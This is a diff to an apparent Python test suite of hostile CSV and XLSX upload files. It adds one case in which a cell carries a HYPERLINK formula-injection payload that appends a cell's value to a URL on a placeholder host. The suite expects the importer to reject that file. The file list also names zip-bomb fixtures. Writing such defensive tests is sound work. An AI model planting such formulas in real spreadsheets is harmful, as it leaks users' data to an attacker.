@@ -297,6 +297,13 @@ def csv_hyperlank_semikolon() -> Fientlig:
     return "hyperlank.csv", ("\n".join(rader) + "\n").encode(), Forvantan(False, rader=2)
 
 
+def csv_formel_med_tomt_argument() -> Fientlig:
+    """Som hyperlänken, men formeln har ett tomt textargument (=IF(A1,"",B1)): csv.Sniffer gissade komma."""
+    formel = '"=HYPERLINK(""http://x/?d=""&A1,""Klicka här"",""x"")"'
+    rader = [";".join(RUBRIKER), ";".join(RAD), ";".join([formel, *RAD2[1:]])]
+    return "tomt_argument.csv", ("\n".join(rader) + "\n").encode(), Forvantan(False, rader=2)
+
+
 def csv_tomma_avslutande_kolumner() -> Fientlig:
     """1 000 tomma avgränsare i slutet av varje rad: tas bort tyst."""
     text = "".join(";".join(r) + ";" * 1000 + "\n" for r in [RUBRIKER, RAD, RAD2]).encode()
@@ -324,7 +331,7 @@ ALLA: list[Callable[[], Fientlig]] = [
     xlsx_gles_bomb_hog_rad, xlsx_tat_bomb, xlsx_tat_bomb_xlsxwriter, xlsx_manga_celler,
     xlsx_zip_bomb_delade_strangar, xlsx_manga_poster, xlsx_formel_utan_varde, xlsx_styrtecken, xlsx_dubblerad_rubrik,
     xlsx_giltig, csv_enorm_rad, csv_manga_kolumner, csv_manga_celler, csv_ostangt_citat, csv_ojamn_rad,
-    csv_blandad_kodning, csv_nul_i_id, csv_styrtecken, csv_hyperlank_semikolon, csv_tomma_avslutande_kolumner,
+    csv_blandad_kodning, csv_nul_i_id, csv_styrtecken, csv_hyperlank_semikolon, csv_formel_med_tomt_argument, csv_tomma_avslutande_kolumner,
     csv_dubblerad_rubrik, csv_rubriklos_kolumn_med_varden, csv_giltig_windows_1252,
 ]
 
